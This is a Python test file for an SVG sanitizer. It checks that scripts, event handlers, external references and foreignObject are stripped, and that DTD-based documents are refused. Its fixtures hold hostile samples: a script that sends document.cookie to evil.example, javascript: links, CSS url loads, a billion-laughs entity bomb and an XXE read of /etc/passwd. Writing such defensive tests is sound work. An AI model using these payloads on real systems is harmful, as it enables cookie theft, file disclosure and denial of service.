"""SVG is sanitized (scripts, handlers, external references, foreignObject out) or refused."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest

from presswright.errors import InvalidImageError
from presswright.images.processing import decode_image
from presswright.images.svg import SVG_NS, sanitize_svg

HOSTILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:ev="http://www.w3.org/2001/xml-events" width="120" height="80" onload="steal()">
  <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
  <!-- a comment with <b>markup</b> -->
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
  <style>@import url(https://evil.example/x.css); rect { fill: red }</style>
  <defs>
    <linearGradient id="sky"><stop offset="0" stop-color="#39f"/>
      <stop offset="1" stop-color="#fff"/></linearGradient>
  </defs>
  <a xlink:href="javascript:steal()"><rect id="box" width="120" height="80" fill="url(#sky)"
     onclick="steal()" ev:event="click"/></a>
  <circle cx="20" cy="20" r="8" fill="url(https://evil.example/paint.svg#p)"/>
  <circle cx="40" cy="20" r="8" style="fill: blue; background: url('https://evil.example/t.png')"/>
  <use xlink:href="https://evil.example/sprite.svg#icon"/>
  <use href="#box" x="5"/>
  <image href="https://evil.example/tracker.png" width="1" height="1"/>
  <image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>
  <image href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk
    +M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" width="4" height="4"/>
  <foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml"
     onmouseover="steal()">HTML inside</div></foreignObject>
  <animate attributeName="href" to="javascript:steal()" begin="0s"/>
  <set attributeName="onclick" to="steal()"/>
  <text x="10" y="70" font-family="serif">Fresh <tspan fill="#333">bread</tspan> daily</text>
  <iframe src="https://evil.example/"/>
</svg>"""


def clean_tree() -> tuple[ET.Element, str, tuple[str, ...]]:
    result = sanitize_svg(HOSTILE)
    text = result.data.decode("utf-8")
    return ET.fromstring(text), text, result.removed  # noqa: S314 - our own output


def test_scripts_handlers_and_foreign_content_are_removed() -> None:
    _, text, removed = clean_tree()
    lowered = text.lower()
    for gone in ("<script", "steal()", "javascript:", "foreignobject", "html inside", "<iframe",
                 "<animate", "<set", "@import", "<metadata", "<!--", "onload",
                 "onclick", "xml-events"):  # fmt: skip
        assert gone not in lowered, gone
    assert "<script>" in removed
    assert "<foreignObject>" in removed
    assert "<svg> attribute onload" in removed


def test_external_references_are_removed_and_internal_ones_kept() -> None:
    root, text, _ = clean_tree()
    assert "evil.example" not in text
    uses = root.findall(f".//{{{SVG_NS}}}use")
    assert [use.get("href") for use in uses] == ["#box"]  # the external one is gone entirely
    images = root.findall(f".//{{{SVG_NS}}}image")
    assert len(images) == 1 and images[0].get("href", "").startswith("data:image/png;base64,")
    rect = root.find(f".//{{{SVG_NS}}}rect")
    assert rect is not None and rect.get("fill") == "url(#sky)"  # a link's content is kept
    circles = root.findall(f".//{{{SVG_NS}}}circle")
    assert [c.get("fill") for c in circles] == [None, None]
    assert circles[1].get("style") is None


def test_the_drawing_survives() -> None:
    root, _, _ = clean_tree()
    assert root.tag == f"{{{SVG_NS}}}svg"
    assert (root.get("width"), root.get("height")) == ("120", "80")
    text = root.find(f".//{{{SVG_NS}}}text")
    assert text is not None and "".join(text.itertext()) == "Fresh bread daily"
    stops = root.findall(f".//{{{SVG_NS}}}stop")
    assert [s.get("stop-color") for s in stops] == ["#39f", "#fff"]


def test_a_clean_svg_stays_the_same_drawing() -> None:
    plain = (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
        b'<path d="M0 0L10 10" stroke="#000"/></svg>'
    )
    result = sanitize_svg(plain)
    assert result.removed == ()
    path = ET.fromstring(result.data).find(f"{{{SVG_NS}}}path")  # noqa: S314
    assert path is not None and path.get("d") == "M0 0L10 10"
    assert result.media_type == "image/svg+xml"


def test_inert_css_is_kept_and_css_that_loads_is_dropped() -> None:
    doc = (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
        b"<style>.brand { fill: #c00; } .mask { clip-path: url(#c) }</style>"
        b"<style>@import 'https://evil.example/a.css';</style>"
        b"<style>.x { background: \\75 rl(https://evil.example/t.png) }</style>"
        b'<style>.y { background-image: image-set("https://evil.example/t.png" 1x) }</style>'
        b'<rect class="brand" width="10" height="10" style="stroke: #000"/>'
        b'<rect width="5" height="5" style="fill: \\75 rl(https://evil.example/p)"'
        b' fill="\\75 rl(https://evil.example/q)"/>'
        b"</svg>"
    )
    result = sanitize_svg(doc)
    text = result.data.decode()
    assert ".brand { fill: #c00; }" in text and "url(#c)" in text
    assert "evil.example" not in text and "\\" not in text
    assert result.removed.count("<style> that loads or runs something") == 3
    root = ET.fromstring(result.data)  # noqa: S314 - our own output
    first, second = root.findall(f"{{{SVG_NS}}}rect")
    assert first.get("style") == "stroke: #000" and second.get("style") is None
    assert second.get("fill") is None


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&d;</text></svg>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>"""


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, "svg_dtd"),
        (XXE, "svg_dtd"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><rect', "undecodable"),
        (b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "not_svg"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "svg_empty"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/><title>x</title></svg>',
            "svg_empty",
        ),
        (b"\xff\xfe not xml at all", "undecodable"),
    ],
    ids=["billion-laughs", "xxe", "malformed", "html", "only-script", "nothing-drawn", "binary"],
)
def test_unsafe_or_broken_documents_are_refused(data: bytes, reason: str) -> None:
    with pytest.raises(InvalidImageError) as caught:
        sanitize_svg(data)
    assert caught.value.reason == reason
    assert "SVG" in str(caught.value) or "svg" in str(caught.value)


def test_size_limit() -> None:
    with pytest.raises(InvalidImageError) as caught:
        sanitize_svg(HOSTILE, max_bytes=100)
    assert caught.value.reason == "too_large"


def test_the_raster_path_points_svg_to_the_sanitizer() -> None:
    with pytest.raises(InvalidImageError, match="SVG document") as caught:
        decode_image(HOSTILE)
    assert caught.value.reason == "svg"
    assert "sanitize_svg" in str(caught.value)
